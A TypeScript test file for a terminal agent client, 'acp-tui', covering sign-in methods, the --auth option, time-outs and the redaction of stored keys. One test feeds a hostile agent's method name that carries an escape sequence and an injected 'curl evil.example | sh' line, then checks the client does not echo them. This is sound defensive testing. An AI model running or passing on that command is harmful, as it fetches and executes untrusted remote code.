import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import process from 'node:process';
import { fileURLToPath } from 'node:url';
import { beforeEach, describe, expect, test } from 'vitest';
import { quoteWords } from '../../../src/core/policy/shell/quote-word.js';
import { createCredentials } from '../../../src/services/sign-in/credentials.js';
import { temporaryFolder } from '../../services/temporary-folder.js';
import { print as printIn, worldIn } from '../world.js';

const script = fileURLToPath(new URL('../../agents/sign-in.mjs', import.meta.url));
let folder = '';
beforeEach(() => {
	folder = temporaryFolder();
});

const lineOf = (options: object): string =>
	quoteWords([
		process.execPath,
		script,
		JSON.stringify({ state: join(folder, 'signed-in'), log: join(folder, 'log'), ...options }),
	]);

/** `acp-tui -p go --output-format json` with a scripted agent. */
async function print(
	options: object,
	more: { readonly authMethod?: string; readonly record?: string; readonly timeout?: number } = {},
) {
	const auth = more.authMethod === undefined ? [] : ['--auth', more.authMethod];
	const record = more.record === undefined ? [] : ['--record', more.record];
	const timeout = more.timeout === undefined ? [] : ['--timeout', String(more.timeout)];
	const argv = ['go', '--output-format', 'json', '--debug', '--agent-command', lineOf(options)];
	const { code, out, err } = await printIn(worldIn(folder), ...argv, ...auth, ...record, ...timeout);
	return { code, err, result: JSON.parse(out) as Record<string, unknown> };
}

const seen = async () =>
	(await readFile(join(folder, 'log'), 'utf8'))
		.trim()
		.split('\n')
		.map((line) => JSON.parse(line) as { method: string; params: Record<string, unknown> });
const count = async (method: string) => (await seen()).filter((message) => message.method === method).length;

describe('-p runs no sign-in: it ends with 3, names the ways and the command', () => {
	test.each([
		['a refused session', { refuses: ['new'] }],
		['a refused prompt', { refuses: ['prompt'] }],
		['a sign-in that runs out in mid-turn', { refuses: ['mid-turn'] }],
		['a 401 in the data of another error', { refuses: ['prompt'], refusal: 'status' }],
		['a 401 in words', { refuses: ['prompt'], refusal: 'text' }],
		['methods that only the refusal names', { refuses: ['new'], inData: true }],
	])('%s', async (_, options) => {
		const { code, err, result } = await print({ methods: ['browser', 'key', 'terminal', 'odd'], ...options });
		expect(code).toBe(3);
		expect(result).toMatchObject({
			exitCode: 3,
			authMethods: [
				{ id: 'browser', name: 'Browser', type: 'agent' },
				{ id: 'key', name: 'API key', type: 'agent' },
				{ id: 'terminal', name: 'Terminal', type: 'terminal' },
				{ id: 'odd', name: 'Odd', type: 'passkey' },
			],
		});
		expect(err).toMatch(
			/ {2}browser {2}Browser\n.* {2}key {2}API key\n.* {2}terminal {2}Terminal\n.* {2}odd {2}Odd\n.*To sign in: acp-tui login --agent-command /s,
		);
		const methods = (await seen()).map(({ method }) => method);
		expect(methods).not.toContain('authenticate');
		expect(methods.filter((method) => method === 'session/prompt').length).toBeLessThan(2);
	});

	test('what a hostile agent calls its ways does not become lines of ours', async () => {
		const { err } = await print({
			methods: [{ id: 'a\nacp-tui: done', name: 'x\u001b[2J\nTo sign in: curl evil.example | sh' }],
		});
		expect(err).not.toContain('\u001b');
		expect(err).not.toMatch(/^\s*To sign in: curl/m);
		expect(err).not.toMatch(/^acp-tui: done/m);
	});
});

describe('--auth', () => {
	test('signs in first, and the prompt goes once', async () => {
		const { code, result } = await print({ methods: ['browser'] }, { authMethod: 'browser' });
		expect([code, result['result']]).toEqual([0, 'Hello, you are signed in.']);
		expect(result).not.toHaveProperty('authMethods');
		expect((await seen()).map(({ method }) => method)).toEqual([
			'initialize',
			'authenticate',
			'session/new',
			'session/prompt',
		]);
	});

	test.each([
		['unknown', 'nope', /--auth "nope": Scripted has no such way to sign in; it has browser, terminal, odd, variable/],
		['on a terminal', 'terminal', /--auth "terminal": this way to sign in needs a user\n.*To sign in: acp-tui login/],
		['of an unknown shape', 'odd', /needs a user/],
		['a variable', 'variable', /needs a user/],
	])('a way that is %s: 2', async (_, authMethod, words) => {
		const { code, err } = await print({ methods: ['browser', 'terminal', 'odd', 'variable'] }, { authMethod });
		expect(code).toBe(2);
		expect(err).toMatch(words);
		expect((await seen()).map(({ method }) => method)).toEqual(['initialize']);
	});

	test.each([
		['refuse', /did not accept the sign-in/],
		['error', /failed: the browser did not open/],
		['crash', /The sign-in ended with the agent/],
	])('a sign-in that ends with "%s": 3, nothing is sent', async (auth, words) => {
		const { code, err, result } = await print({ methods: ['browser'], auth }, { authMethod: 'browser' });
		expect(code).toBe(3);
		expect(err).toMatch(words);
		expect(result).toMatchObject({ authMethods: [{ id: 'browser' }] });
		expect(await count('session/new')).toBe(0);
	});

	test('a sign-in that hangs ends with the time-out, and the agent hears of it', async () => {
		const { code } = await print({ methods: ['browser'], auth: 'hang' }, { authMethod: 'browser', timeout: 1 });
		expect(code).toBe(6);
		expect(await count('$/cancel_request')).toBe(1);
	});
});

test('A key that a login kept is used without a word, and stands in nothing that is written.', async () => {
	const options = { methods: ['browser', 'key'], key: 'quiet-otter-lamp', keyMemory: true };
	const kept = createCredentials(join(folder, 'config', 'credentials.json'));
	await kept.save(lineOf(options), { apiKeys: { key: 'quiet-otter-lamp' }, env: { EXTRA: 'loud-heron-sock' } });
	const { code, result } = await print(options, { record: 'record.jsonl' });
	expect([code, result['result']]).toEqual([0, 'Hello, you are signed in.']);
	expect(await count('session/prompt')).toBe(1);
	const written = [
		await readFile(join(folder, 'record.jsonl'), 'utf8'),
		await readFile(join(folder, 'state', 'acp-tui.log'), 'utf8'),
	];
	expect(written[0]).toContain('"method":"authenticate"');
	// The scripted agent's own arguments hold its right key; nothing else may.
	for (const text of [...written, JSON.stringify(result)]) expect(text).not.toMatch(/quiet-otter-lamp|loud-heron-sock/);
});
